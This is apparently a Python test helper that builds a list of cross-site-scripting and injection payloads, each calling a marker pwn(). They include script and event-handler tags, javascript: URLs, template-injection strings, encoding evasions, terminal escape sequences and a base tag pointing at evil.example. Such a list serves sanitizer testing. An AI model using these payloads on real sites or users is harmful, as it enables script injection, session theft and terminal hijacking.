"""Texts that would like to be run: as markup, as an address, as a template, as a style, as an escape of the terminal.

In:   how many are wanted. Out: that many, all different, each calling `pwn()` if anybody runs it.
"""

from __future__ import annotations

import itertools

RUN = "pwn()"
SEEDS = (
    "<script>{run}</script>", "</script><script>{run}</script>", "<img src=x onerror={run}>", "<svg onload={run}>",
    '"><svg onload={run}>', "'><img src=x onerror='{run}'>", "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<iframe src=javascript:parent.{run}>", "<body onload={run}>", "<details open ontoggle={run}>",
    "<a href=javascript:{run}>x", "<input autofocus onfocus={run}>", "<video><source onerror={run}></video>",
    "<math><mtext></p><style><img src=x onerror={run}>", "<style>@import 'javascript:{run}'</style>",
    "<style>*{{background:url(x)}}</style><img src=x onerror={run}>", "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>", "<base href=//evil.example/>", "<link rel=import href=//x/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form action=javascript:{run}><button autofocus>x</button></form>", "javascript:{run}", "java\tscript:{run}",
    "JaVaScRiPt:{run}", "data:text/html,<script>{run}</script>", "vbscript:{run}", "[x](javascript:{run})",
    "![x](javascript:{run})", "[x]: javascript:{run}\n\n[x]", "<javascript:{run}>", "[a](data:text/html,x)",
    "```html\n<script>{run}</script>\n```", "```mermaid\ngraph LR; A[<img src=x onerror={run}>]\n```",
    "`<script>{run}</script>`", "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "#{{{run}}}",
    "<%= {run} %>", "{{% {run} %}}", "{{{{{run}}}}}", "';{run};'", '";{run};"', "`;{run};`", "\\';{run}//",
    "--><script>{run}</script>", "]]><script>{run}</script>", "*/{run}/*", "<!--<script>{run}//-->",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<template><script>{run}</script></template>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><script href=data:,{run} />",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/>", "<marquee onstart={run}>",
    "<select autofocus onfocus={run}>", "<button popovertarget=x>a</button><p popover id=x ontoggle={run}>",
    "<div style=\"background:url('javascript:{run}')\">", "<x onclick={run} id=x tabindex=1 onfocus={run}>#x",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "\u003cscript\u003e{run}", "<scr\x00ipt>{run}</scr\x00ipt>",
    "<img/src=x/onerror={run}>", "<IMG SRC=x ONERROR={run}>", "<img src=`x` onerror={run}>",
    "<<script>{run}//<</script>", "\u202e<script>{run}</script>", "\x1b]52;c;{run}\x07",
    "\x1b[2J<img src=x onerror={run}>", "\x9b31m{run}", "x\revent: forged\rdata: {run}",
    "x\n\nid: forged\ndata: {run}", "__proto__", "constructor", "hasOwnProperty", "toString",
    "<img src=x onerror=&#112;wn()>",
)  # fmt: skip
WRAPS = ("{}", "a{}b", '"{}"', "<p>{}</p>", "{}{}", "\u2028{}", " {} ", "'{}", "<!{}>", "\ufeff{}", "&{};", "/{}/")


def payloads(count: int) -> list[str]:
    """The first are the plain ones; then come the same in other surroundings."""
    made = (wrap.replace("{}", seed.format(run=RUN)) for wrap in WRAPS for seed in SEEDS)
    return list(itertools.islice(dict.fromkeys(made), count))
